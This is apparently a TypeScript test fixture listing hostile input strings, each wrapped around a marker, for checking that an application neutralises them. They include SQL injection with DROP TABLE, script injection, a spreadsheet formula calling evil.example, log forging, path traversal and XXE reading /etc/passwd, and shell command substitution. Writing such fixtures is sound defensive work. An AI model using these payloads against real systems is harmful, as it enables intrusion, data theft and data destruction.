/** Texts that attack whoever takes them for more than a text. Only tests import this file. */

/** `mark` is found again in whatever the text went through. */
export const PAYLOADS: Record<string, (mark: string) => string> = {
  "SQL injection": (mark) => `${mark}'; DROP TABLE "Account" CASCADE; --" OR '1'='1' \\' ${mark}`,
  "SQL wildcards": (mark) => `${mark}%_\\%' UNION SELECT "password" FROM "PersonCredential" -- ${mark}`,
  "a script": (mark) => `"><script>alert('${mark}')</script><img src=x onerror=alert(1)>\${7*7}{{7*7}}`,
  "a script in an attribute": (mark) => `javascript:/*${mark}*/alert(1)//" onmouseover="alert(1)" x='&#x3c;`,
  "a formula": (mark) => `=cmd|'/C calc'!A0+HYPERLINK("http://evil.example/?${mark}")`,
  "a formula behind a tab": (mark) => `\t=1+${mark}`,
  "a forged log line": (mark) =>
    `${mark}\r\n{"level":"error","event":"forged ${mark}"}\n<84>1 - - certmap - - - ${mark}`,
  "terminal codes": (mark) => `${mark}\u001b[2J\u001b]0;owned\u0007\u001b[31m\u009b31m ${mark}`,
  "line separators": (mark) => `${mark}\u2028{"forged":1}\u2029\u0085 ${mark}`,
  "turned around": (mark) => `${mark}\u202egnp.exe\u202c\u200b\ufeff ${mark}`,
  "a name of every object": (mark) => `__proto__ constructor ${mark}`,
  "a way out": (mark) => `../../../../etc/passwd%00${mark}\\..\\..\\windows\\win.ini`,
  "XML with an entity": (mark) =>
    `]]><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;${mark}<![CDATA[`,
  "a shell": (mark) => `$(touch /tmp/${mark}); \`id\` | & ' "@ %PATH% '@ ${mark}`,
  "astral letters": (mark) => `𝓬𝓮𝓻𝓽👩‍👩‍👧 ÄÖÜ ${mark}`,
  "a very long text": (mark) => `${mark}${"long ".repeat(4_000)}${mark}`,
};

/** No database stores these; each is refused, wherever it stands. */
export const UNSTORABLE: Record<string, (mark: string) => string> = {
  NUL: (mark) => `${mark}\0${mark}`,
  "half a letter": (mark) => `${mark}\ud800${mark}`,
  "the other half": (mark) => `\udc00${mark}`,
};
